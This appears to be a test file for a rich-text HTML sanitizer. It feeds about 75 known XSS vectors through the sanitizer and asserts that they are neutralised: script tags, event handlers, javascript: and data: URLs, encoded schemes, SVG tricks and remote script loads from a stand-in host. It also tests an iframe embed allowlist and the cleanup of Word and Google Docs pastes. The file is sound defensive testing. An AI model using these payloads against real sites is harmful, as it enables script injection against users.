import { embedFrame, urlScheme } from '@rookery/core';
import { describe, expect, it } from 'vitest';
import { sanitizePlainHtml, sanitizeRichHtml, stripMarkup } from './sanitize.js';

const clean = sanitizeRichHtml;
const ID = 'aqz-KE-bpKQ';

/** What no sanitized output may contain, whatever the input. */
function expectInert(output: string) {
  const lower = output.toLowerCase();
  expect(lower).not.toMatch(
    /<\s*(script|style|svg|math|object|embed|form|input|base|meta|link|frame|frameset)\b/,
  );
  expect(lower).not.toMatch(/\son[a-z]+\s*=/);
  expect(lower).not.toMatch(/\s(style|srcdoc|xlink:href|formaction|action|background|dynsrc|lowsrc)\s*=/);
  for (const [, value = ''] of lower.matchAll(/\s(?:href|src|data-orig-src)="([^"]*)"/g)) {
    expect(['http', 'https', 'mailto', null]).toContain(urlScheme(value.replace(/&amp;/g, '&')));
  }
  expect(lower).not.toContain('expression(');
}

// At least fifty known XSS vectors (OWASP filter evasion cheat sheet, html5sec.org, PortSwigger).
const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x onerror\n=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="x" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<b onfocus=alert(1) autofocus tabindex=1>x</b>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<style>@import "http://xss.example/xss.css";</style>',
  '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<BASE HREF="javascript:alert(1);//">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/aqz-KE-bpKQ" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="http://xss.example/scriptlet.html"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<TABLE BACKGROUND="javascript:alert(1)"><TD BACKGROUND="javascript:alert(1)">x</TD></TABLE>',
  '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="#" title="x" onmouseover=alert(1)//>x</a>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<p><a href="javascript:alert(1)"><b>nested <i>deep <img src=x onerror=alert(1)></i></b></a>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<hr class="read-more" data-label="More" onclick=alert(1) style="x">',
  '<a href="jav ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
];

describe('sanitizer against XSS vectors', () => {
  it('has at least fifty vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(VECTORS.map((vector) => [vector]))('neutralises %s', (vector) => {
    expectInert(clean(vector));
  });

  it('gives an undescribed image an empty alt, and keeps a description', () => {
    expect(sanitizeRichHtml('<p><img src="/media/a.jpg"></p>')).toBe(
      '<p><img src="/media/a.jpg" alt="" /></p>',
    );
    expect(sanitizeRichHtml('<p><img src="/media/a.jpg" alt="A moth"></p>')).toContain('alt="A moth"');
  });

  it('keeps the harmless text around what it removes', () => {
    expect(clean('<p>Hello <script>alert(1)</script>world</p>')).toBe('<p>Hello world</p>');
    expect(clean('<p onclick="x()">Hi</p>')).toBe('<p>Hi</p>');
    expect(clean('<img src=x onerror=alert(1)>')).toBe('<img src="x" alt="" />');
  });

  it('drops the contents of script, style, noscript and meta', () => {
    expect(clean('<style>p{}</style><noscript>no</noscript><script>s</script><p>kept</p>')).toBe(
      '<p>kept</p>',
    );
  });

  it('removes a link address with a forbidden scheme but keeps the link text', () => {
    expect(clean('<a href="javascript:alert(1)">x</a>')).toBe('<a>x</a>');
    expect(clean('<a href="data:text/html,x">x</a>')).toBe('<a>x</a>');
  });

  it('keeps http, https, mailto and relative links with their title', () => {
    for (const href of [
      'http://a.example/',
      'https://a.example/x?y=1',
      'mailto:a@b.example',
      '/tagged/x',
      '#top',
    ]) {
      expect(clean(`<a href="${href}" title="t">x</a>`)).toBe(`<a href="${href}" title="t">x</a>`);
    }
  });

  it('removes iframes from hosts outside the embed allowlist', () => {
    expect(clean('<iframe src="https://evil.example/embed/x"></iframe><p>after</p>')).toBe('<p>after</p>');
    expect(clean(`<iframe src="https://www.youtube.com.evil.example/embed/${ID}"></iframe>`)).toBe('');
    expect(clean(`<iframe src="http://www.youtube.com/embed/${ID}"></iframe>`)).toBe('');
    expect(clean(`<iframe src="https://www.youtube.com/watch?v=${ID}"></iframe>`)).toBe('');
  });

  it('never stores a frame that is not a player, however its address is dressed', () => {
    for (const src of [
      'https://www.youtube.com/embed/%2e%2e/%2e%2e/x',
      `https://www.youtube.com/x/../embed/${ID}`,
      `https://www.youtube.com/embed%2f${ID}`,
      `https://www.youtube.com\\embed\\${ID}`,
      `https://user:pass@www.youtube.com/embed/${ID}`,
      `https://www.youtube.com:8443/embed/${ID}`,
      `https://evil.com/www.youtube.com/embed/${ID}`,
      'https://rookery.example/ada/post/1',
      '/ada/post/1',
    ]) {
      expect(clean(`<p>a</p><iframe src="${src}"></iframe>`), src).toBe('<p>a</p>');
      expect(clean(`<IFRAME SRC="${src.replace(/&/g, '&amp;')}">`), src).toBe('');
    }
  });

  it('writes a kept embed afresh: its address normalised, its size numeric, the player attributes set', () => {
    const hostile = `<iframe src="HTTPS://WWW.YouTube-NoCookie.com/embed/${ID}?start=3&amp;si=x#t" width="540" height="304px" frameborder="0" allowfullscreen onload="x" sandbox="allow-scripts allow-same-origin" allow="camera; microphone" referrerpolicy="unsafe-url" loading="eager" title="t" srcdoc="<p>x</p>"></iframe>`;
    expect(clean(hostile)).toBe(
      `<iframe src="https://www.youtube-nocookie.com/embed/${ID}?start=3&amp;si=x" width="540" frameborder="0" title="YouTube video" allow="fullscreen; encrypted-media; picture-in-picture" referrerpolicy="strict-origin-when-cross-origin" loading="lazy"></iframe>`,
    );
    const vimeo = '<iframe src="https://player.vimeo.com/video/1"></iframe>';
    expect(clean(vimeo)).toBe(
      '<iframe src="https://player.vimeo.com/video/1" title="Vimeo video" allow="fullscreen; encrypted-media; picture-in-picture" referrerpolicy="strict-origin-when-cross-origin" loading="lazy"></iframe>',
    );
  });

  it('stores every frame exactly as core writes it, so stored HTML is what the renderers show', () => {
    const stored = clean(
      `<p><iframe src="https://www.youtube.com/embed/${ID}" width="1" height="2"></iframe></p><iframe src="https://player.vimeo.com/video/2" frameborder="0"></iframe>`,
    );
    const frames = [...stored.matchAll(/<iframe ([^>]*)>/g)].map((m) =>
      Object.fromEntries([...(m[1] ?? '').matchAll(/([a-z-]+)="([^"]*)"/g)].map(([, k, v]) => [k, v])),
    );
    expect(frames).toHaveLength(2);
    for (const frame of frames) expect(frame).toEqual(embedFrame(frame));
    expect(stored).not.toMatch(/sandbox="[^"]*allow-same-origin/);
  });

  it('keeps the read-more break with its label, and only that class', () => {
    expect(clean('<hr class="read-more other" data-label="Keep reading" id="x">')).toBe(
      '<hr class="read-more" data-label="Keep reading" />',
    );
  });

  it('keeps media items with their key, original source and size', () => {
    const figure =
      '<figure data-type="image"><img src="/media/a.jpg" alt="A moth" data-orig-width="1080" data-orig-height="720" data-key="a.jpg" data-orig-src="https://cdn.example/a.jpg" /></figure>';
    expect(clean(figure)).toBe(figure);
    expect(clean('<img src="/media/a.jpg" width="1" data-orig-src="javascript:alert(1)">')).toBe(
      '<img src="/media/a.jpg" alt="" />',
    );
  });

  it('closes unbalanced markup and drops stray closing tags', () => {
    expect(clean('<p><b>bold <i>both</p>')).toBe('<p><b>bold <i>both</i></b></p>');
    expect(clean('</b></i>text')).toBe('text');
    expect(clean('<ul><li>one<li>two</ul>')).toBe('<ul><li>one</li><li>two</li></ul>');
  });

  it('maps strong, em, del and other headings onto the allowlist', () => {
    expect(clean('<h1>T</h1><h3>S</h3><strong>b</strong><em>i</em><del>d</del><strike>s</strike>')).toBe(
      '<h2>T</h2><h2>S</h2><b>b</b><i>i</i><s>d</s><s>s</s>',
    );
  });
});

describe('paste from Word', () => {
  const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"><title>Doc</title>
<!--[if gte mso 9]><xml><o:DocumentProperties><o:Author>Ada</o:Author></o:DocumentProperties></xml><![endif]-->
<style>p.MsoNormal{margin:0cm;mso-pagination:widow-orphan;}</style></head>
<body lang=EN-GB style='tab-interval:36.0pt'>
<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span style='font-size:12.0pt;mso-bidi-font-family:Calibri'>Bold words</span></b><span style='mso-spacerun:yes'> </span>and <i>italic</i><o:p></o:p></p>
<p class=MsoListParagraph style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;</span></span><![endif]>Item<o:p></o:p></p>
<h1 style='mso-outline-level:1'>Heading<o:p></o:p></h1>
</body></html>`;

  it('keeps the words and formatting, drops classes, styles, o:p, xml and conditional comments', () => {
    const out = clean(word);
    expectInert(out);
    expect(out).not.toMatch(/mso|class=|<o:p|Ada|DocumentProperties|<span|Doc</);
    expect(out).toContain('<b>Bold words</b>');
    expect(out).toContain('<i>italic</i>');
    expect(out).toContain('Item');
    expect(out).toContain('<h2>Heading</h2>');
  });
});

describe('paste from Google Docs', () => {
  const docs =
    '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1a2b3c"><p dir="ltr" style="line-height:1.38;margin-top:0pt;"><span style="font-size:11pt;font-family:Arial;font-weight:700;vertical-align:baseline;">Bold</span><span style="font-size:11pt;font-weight:400;"> plain </span><span style="font-style:italic;font-weight:400;">italic</span><span style="text-decoration:line-through;">gone</span></p><ul><li dir="ltr"><p dir="ltr"><span>point</span></p></li></ul><br></b>';

  it('unwraps the guid wrapper and turns styled spans into b, i and s', () => {
    expect(clean(docs)).toBe(
      '<p><b>Bold</b> plain <i>italic</i><s>gone</s></p><ul><li><p>point</p></li></ul><br />',
    );
  });

  it('keeps a real bold b', () => {
    expect(clean('<b>yes</b>')).toBe('<b>yes</b>');
    expect(clean('<b style="font-weight:bold">yes</b>')).toBe('<b>yes</b>');
  });
});

describe('plain-text variant', () => {
  it('allows only p, br and div without attributes', () => {
    expect(
      sanitizePlainHtml('<div class="x"><p onclick=x>a<br>b</p><b>c</b><img src=x onerror=alert(1)></div>'),
    ).toBe('<div><p>a<br />b</p>c</div>');
  });
});

describe('stripMarkup', () => {
  it('leaves text only, entities decoded', () => {
    expect(stripMarkup('Tea & <b>toast</b><script>x</script>')).toBe('Tea & toast');
  });
});
